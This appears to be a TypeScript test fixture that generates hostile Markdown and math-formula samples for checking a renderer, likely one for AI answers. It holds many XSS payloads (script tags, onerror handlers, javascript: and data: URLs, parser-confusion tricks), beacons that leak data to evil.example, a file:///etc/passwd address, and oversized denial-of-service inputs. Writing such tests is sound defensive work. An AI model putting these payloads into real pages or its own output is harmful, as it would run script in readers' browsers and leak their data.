// What an answer may hold to make its reader's browser run something or tell somebody something. Made by families, so that every
// trick is tried in every place that Markdown has for it. `hit(…)` reports a script that runs; leaks go to evil.example.

export type HostileSample = { family: string; text: string };

const HIT = "hit('x')";
const LEAK = 'https://evil.example/leak';

/** Ways to write a tag or an address into Markdown. `{}` is where it goes. */
const PLACES = [
  '{}',
  'Words before {} and after',
  '> {}',
  '- item\n\n  {}',
  '| a | b |\n|---|---|\n| {} | x |',
  '# {}',
  '**{}**',
  '1. one\n2. {}',
  '\n\n{}\n\n',
];

const TAGS = [
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script src="${LEAK}.js"></script>`,
  `<script\n>${HIT}</script\n>`,
  `<script/x>${HIT}</script>`,
  `<<script>${HIT}//<</script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src="${LEAK}.png">`,
  `<img/src="x"/onerror=${HIT}>`,
  `<img srcset="${LEAK} 1x">`,
  `<input type=image src="${LEAK}" onerror="${HIT}">`,
  `<input autofocus onfocus="${HIT}">`,
  `<video src="${LEAK}" onerror="${HIT}"></video>`,
  `<video poster="${LEAK}"></video>`,
  `<audio src="${LEAK}" onerror=${HIT}></audio>`,
  `<picture><source srcset="${LEAK}"><img src=x onerror=${HIT}></picture>`,
  `<body onload="${HIT}">`,
  `<details open ontoggle="${HIT}">x</details>`,
  `<marquee onstart="${HIT}">x</marquee>`,
  `<div onmouseover="${HIT}" onclick="${HIT}">x</div>`,
  `<div style="background:url(${LEAK})">x</div>`,
  `<style>@import "${LEAK}";*{background:url(${LEAK})}</style>`,
  `<style>@keyframes x{}</style><b style="animation:x" onanimationstart="${HIT}">x</b>`,
  `<link rel=stylesheet href="${LEAK}.css">`,
  `<link rel=prefetch href="${LEAK}">`,
  `<link rel=dns-prefetch href="//evil.example">`,
  `<meta http-equiv=refresh content="0;url=${LEAK}">`,
  `<meta http-equiv=refresh content="0;javascript:${HIT}">`,
  `<base href="https://evil.example/"><a href="x">x</a>`,
  `<iframe src="${LEAK}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<iframe src="javascript:parent.${HIT}"></iframe>`,
  `<frameset><frame src="${LEAK}"></frameset>`,
  `<object data="${LEAK}"></object>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="${LEAK}">`,
  `<form action="${LEAK}"><input name=x><button autofocus onfocus=${HIT}>x</button></form>`,
  `<button formaction="javascript:${HIT}">x</button>`,
  `<isindex action="javascript:${HIT}">`,
  `<svg onload="${HIT}"></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<svg><image href="${LEAK}"/><use href="${LEAK}#x"/></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${HIT}></style></svg>`,
  `<math><a href="javascript:${HIT}">x</a></math>`,
  `<math href="javascript:${HIT}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<template><script>${HIT}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${HIT}></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${HIT}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${HIT}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${HIT}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${HIT}>"></noembed>`,
  `<plaintext><img src=x onerror=${HIT}>`,
  `<!--><img src=x onerror=${HIT}>-->`,
  `<!-- --!><img src=x onerror=${HIT}>-->`,
  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `<?xml <img src=x onerror=${HIT}> ?>`,
  `<!DOCTYPE <img src=x onerror=${HIT}>>`,
  `</p><img src=x onerror=${HIT}>`,
  `</div></div></main><img src=x onerror=${HIT}>`,
  `<a href="javascript:${HIT}" autofocus onfocus=${HIT}>x</a>`,
  `<a href="${LEAK}" ping="${LEAK}">x</a>`,
  `<x onclick=${HIT} contenteditable autofocus onfocus=${HIT}>x</x>`,
  `<custom-element is="x" onload=${HIT}></custom-element>`,
  `<data value="0" onclick=${HIT}>x</data>`,
  `<p id="getElementById" name="body" class="md-code" data-x="1">x</p>`,
  `<portal src="${LEAK}"></portal>`,
  `<bgsound src="${LEAK}">`,
  `<table background="${LEAK}"><td background="${LEAK}">x</table>`,
  `&lt;img src=x onerror=${HIT}&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `\\<img src=x onerror=${HIT}>`,
];

const ADDRESSES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  ` javascript:${HIT}`,
  `java\tscript:${HIT}`,
  `java&#10;script:${HIT}`,
  `&#106;&#97;&#118;&#97;script:${HIT}`,
  `&#x6A;avascript:${HIT}`,
  `javascript&colon;${HIT}`,
  `\u0001javascript:${HIT}`,
  `javascript://evil.example/%0a${HIT}`,
  `vbscript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${HIT}>`,
  `blob:${LEAK}`,
  `file:///etc/passwd`,
  `//evil.example/leak`,
  `/leak-on-this-site`,
  `?leak=1`,
  `#leak`,
  `${LEAK}"onmouseover="${HIT}`,
  `${LEAK}'onmouseover='${HIT}`,
  `https://evil.example\\@bank.example/`,
  `https://bank.example@evil.example/`,
  `https://evil.example/\u202Egro.knab`,
  `x" onerror="${HIT}`,
  `mailto:a@b.example?body=${LEAK}`,
];

/** Every way in which Markdown writes a link or an image. */
const LINKS = [
  '[words](<{}>)',
  '[words]({})',
  '![words]({})',
  '![words](<{}> "title")',
  '[words]({} "onmouseover=hit(1)")',
  '<{}>',
  '{}',
  '[words][a]\n\n[a]: {}',
  '![words][a]\n\n[a]: <{}> "title"',
  '[![words]({})]({})',
  '[{}]({})',
];

const FORMULAS = [
  `\\href{javascript:${HIT}}{x}`,
  `\\href{${LEAK}}{x}`,
  `\\url{javascript:${HIT}}`,
  `\\url{${LEAK}}`,
  `\\includegraphics{${LEAK}.png}`,
  `\\includegraphics[height=9em]{${LEAK}.png}`,
  `\\htmlClass{md-code}{x}`,
  `\\htmlId{page}{x}`,
  `\\htmlStyle{background:url(${LEAK})}{x}`,
  `\\htmlData{x=1}{x}`,
  `\\text{<img src=x onerror=${HIT}>}`,
  `<img src=x onerror=${HIT}>`,
  `\\color{red;background:url(${LEAK})}x`,
  `\\colorbox{url(${LEAK})}{x}`,
  `\\class{x}{y}`,
  `\\unicode{x}`,
  `\\require{html}\\href{${LEAK}}{x}`,
  `\\def\\a{\\a\\a}\\a`,
  `\\newcommand{\\a}{${'x'.repeat(400)}}${'\\a'.repeat(300)}`,
  `\\rule{99999em}{99999em}`,
  `\\kern99999em x`,
  `${'{'.repeat(900)}x${'}'.repeat(900)}`,
  `${'\\frac{1}{'.repeat(200)}x${'}'.repeat(200)}`,
  `${'\\sqrt{'.repeat(300)}x${'}'.repeat(300)}`,
  `\\begin{array}{${'c'.repeat(900)}}${'&'.repeat(900)}\\end{array}`,
];
const MATHS = ['$F$', '$$F$$', '\\(F\\)', '\\[F\\]', '$$\nF\n$$', '- \\[\n  F\n  \\]'];

const RUNS = [
  ...[
    '[',
    '![',
    '(',
    '*',
    '**_a',
    '`',
    '<',
    '<a ',
    '>',
    '> ',
    '- ',
    '|',
    '\\',
    '$',
    '\\(',
    '&',
    '#',
    '~~a',
    '!',
    '_a',
  ].map((run) => run.repeat(20_000)),
  'x'.repeat(1_000_000),
  '<img src=x onerror=hit(1)>'.repeat(4000),
  `[a](${'('.repeat(20_000)}`,
  `${'<b>'.repeat(20_000)}x`,
  `${'<table><tr><td>'.repeat(5000)}x`,
  `\`\`\`js\n${'/*'.repeat(20_000)}`,
  `\`\`\`html\n${TAGS.join('\n')}\n\`\`\``,
  `\`\`\`svg" onload="${HIT}\n<svg onload=${HIT}>\n\`\`\``,
  `\`\`\`<img src=x onerror=${HIT}>\nx\n\`\`\``,
  `~~~ javascript:${HIT}\nx\n~~~`,
  `\`<img src=x onerror=${HIT}>\``,
  '\u202E\u2066'.repeat(5000),
];

/** All samples, always the same ones in the same order. */
export function hostileSamples(): HostileSample[] {
  const samples: HostileSample[] = [];
  const add = (family: string, text: string): number => samples.push({ family, text });
  for (const [index, tag] of TAGS.entries()) {
    // Each tag in three places, so that each place has every kind.
    for (let step = 0; step < 3; step++)
      add(
        'tag',
        PLACES[(index + step * 3) % PLACES.length]!.replace('{}', () => tag),
      );
  }
  for (const address of ADDRESSES)
    for (const link of LINKS)
      add(
        'address',
        link.replaceAll('{}', () => address),
      );
  for (const [index, formula] of FORMULAS.entries()) {
    for (let step = 0; step < 3; step++)
      add(
        'formula',
        MATHS[(index + step * 2) % MATHS.length]!.replace('F', () => formula),
      );
  }
  for (const run of RUNS) add('run', run);
  return samples;
}
